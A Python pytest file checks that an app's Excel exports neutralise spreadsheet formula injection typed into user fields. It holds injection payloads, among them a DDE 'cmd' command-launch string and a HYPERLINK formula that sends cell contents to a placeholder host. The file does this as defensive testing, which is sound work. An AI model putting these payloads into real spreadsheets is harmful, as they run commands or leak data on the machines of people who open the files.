"""Every Excel export, fed hostile text in every field a person types, read back with openpyxl:
no cell is ever a formula, the hostile text comes back as the text it was (a string cell with
Excel's quote prefix), and real numbers stay numbers.  One file also goes through LibreOffice
headless (CSV), which must show the literal text, not a computed value."""

from __future__ import annotations

import csv
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import load_workbook

from integrity_desktop.db.store import Store
from integrity_desktop.excel.workbook import looks_like_formula
from integrity_desktop.reports import checklist_excel
from integrity_desktop.reports.registry import ReportParams, all_reports, run_report
from integrity_desktop.services.audit import view as audit_view
from integrity_desktop.services.cases import register as cases
from integrity_desktop.services.checklists import filled as checklists
from integrity_desktop.services.checklists import scoring
from integrity_desktop.services.inspections import inspectors, visits
from integrity_desktop.services.inspections.visits import ActionInput, FindingInput
from integrity_desktop.services.store import offices

from .conftest import actor

ADMIN = actor("admin")
OFFICER = actor("case_officer")
INSPECTOR = actor("inspector")

# Each field gets its own so that a hit tells which field it came from.
NAME = '=HYPERLINK("http://example.invalid","نام")'
POST = "=2*3"
REPORTER = "+98 912 000 0000"
SUMMARY = '=HYPERLINK("http://example.invalid/?"&A2,"بیشتر")'
UNIT = "@SUM(1,2) واحد"
FINDING = "=3+4 یافته"
ACTION = "-cmd|' /C calc'!A0"
RECOMMENDATION = "\uff1d1+1"
NOTE = "=1+2 یادداشت"  # (services strip a leading tab; test_excel covers tab and CR)
INSPECTOR_POST = "\u2212" + "5"
HOSTILE = (NAME, POST, REPORTER, SUMMARY, UNIT, FINDING, ACTION, RECOMMENDATION, NOTE, INSPECTOR_POST)


@dataclass(frozen=True)
class Hostile:
    case_id: str
    checklist_id: str
    inspector_code: str


@pytest.fixture
def hostile(store: Store) -> Hostile:
    unit = offices.add_unit(store, ADMIN, UNIT)
    case = cases.register_case(
        store, OFFICER, employee_name=NAME, national_code="0084575948", employee_post=POST, unit_id=unit.id,
        reporter=REPORTER, violation_codes=["10"], reported_on="1403/02/10", summary=SUMMARY,
    )
    summary = checklists.create_checklist(store, INSPECTOR, scoring.three_year_template_id(), unit.id, "1403-Q2")
    entry = checklists.get_checklist(store, INSPECTOR, summary.id).entries[0]
    checklists.save_entry(store, INSPECTOR, entry.id, status="partial", progress=40, note=NOTE)
    person = inspectors.create_inspector(
        store, INSPECTOR, full_name="مریم احمدی", national_code="0499370899", appointed_on="1402/01/15",
        letter_no="۱۲۳/ب", post=INSPECTOR_POST,
    )
    visits.log_visit(
        store, INSPECTOR, kind="adhoc", unit_id=unit.id, visit_date="1403/07/11", inspector_ids=[person.id],
        recommendations=RECOMMENDATION, status="reported",
        findings=[FindingInput("critical", FINDING, "22/1", (ActionInput(unit.id, ACTION, "1403/08/01"),))],
    )
    return Hostile(case.id, summary.id, person.national_code)


def _params(name: str, h: Hostile) -> ReportParams:
    return {
        "checklist": ReportParams(subject=h.checklist_id),
        "axis-completion": ReportParams(period="1403-Q2"),
        "case-statistics": ReportParams(period="1403"),
        "case-register": ReportParams(),
        "inspector-monthly": ReportParams(period="1403-M07", subject=h.inspector_code),
        "inspections-semiannual": ReportParams(period="1403-H2"),
        "inspection-realisation": ReportParams(period="1403-Q3"),
        "inspector-evaluation": ReportParams(period="1403", subject=h.inspector_code),
        "hq-provinces": ReportParams(period="1403-Q2"),
    }.get(name, ReportParams(period="1403"))


def _exports(store: Store, h: Hostile, folder: Path) -> list[Path]:
    """Every Excel file the app writes: each report that has an Excel form, the checklist
    export and the audit log export."""
    files = []
    for name, spec in sorted(all_reports().items()):
        if "xlsx" in spec.formats:
            out = folder / f"{name}.xlsx"
            run_report(store, ADMIN, name, _params(name, h), out)
            files.append(out)
    files.append(checklist_excel.export_workbook(store, ADMIN, folder / "checklists.xlsx").path)
    out = folder / "audit.xlsx"
    audit_view.export_excel(store, ADMIN, audit_view.AuditFilter(), out)
    files.append(out)
    return files


def test_every_export_writes_user_text_as_text(store: Store, hostile: Hostile, tmp_path: Path) -> None:
    files = _exports(store, hostile, tmp_path)
    assert {p.stem for p in files} >= {"case-register", "checklist", "inspector-monthly", "checklists", "audit"}
    found: dict[str, set[str]] = {text: set() for text in HOSTILE}
    for path in files:
        book = load_workbook(path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and looks_like_formula(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell.coordinate)
                    for text in HOSTILE:
                        if isinstance(cell.value, str) and text in cell.value:
                            found[text].add(path.stem)
    # each hostile text reached at least one workbook, as the text it was
    assert all(found.values()), {t: sorted(f) for t, f in found.items() if not f}
    assert "case-register" in found[NAME] and "case-register" in found[POST]
    assert "checklists" in found[NOTE] and "checklist" in found[NOTE]
    assert "inspector-monthly" in found[FINDING] and "inspector-monthly" in found[ACTION]


def test_numbers_stay_numbers(store: Store, hostile: Hostile, tmp_path: Path) -> None:
    out = tmp_path / "stats.xlsx"
    run_report(store, ADMIN, "case-statistics", ReportParams(period="1403"), out)
    ws = load_workbook(out)["شاخص‌ها"]
    values = [row[2] for row in ws.iter_rows(min_row=4)]
    assert values and all(c.data_type == "n" and c.number_format == "#,##0" for c in values)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_literal_text(store: Store, hostile: Hostile, tmp_path: Path) -> None:
    out = tmp_path / "register.xlsx"
    run_report(store, OFFICER, "case-register", ReportParams(), out)
    profile = tmp_path / "lo-profile"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(tmp_path), str(out)],
        check=True, capture_output=True, timeout=240,
    )
    with (tmp_path / "register.csv").open(encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert NAME in cells and POST in cells  # not «نام» (a live link) and not 6
    assert "6" not in cells
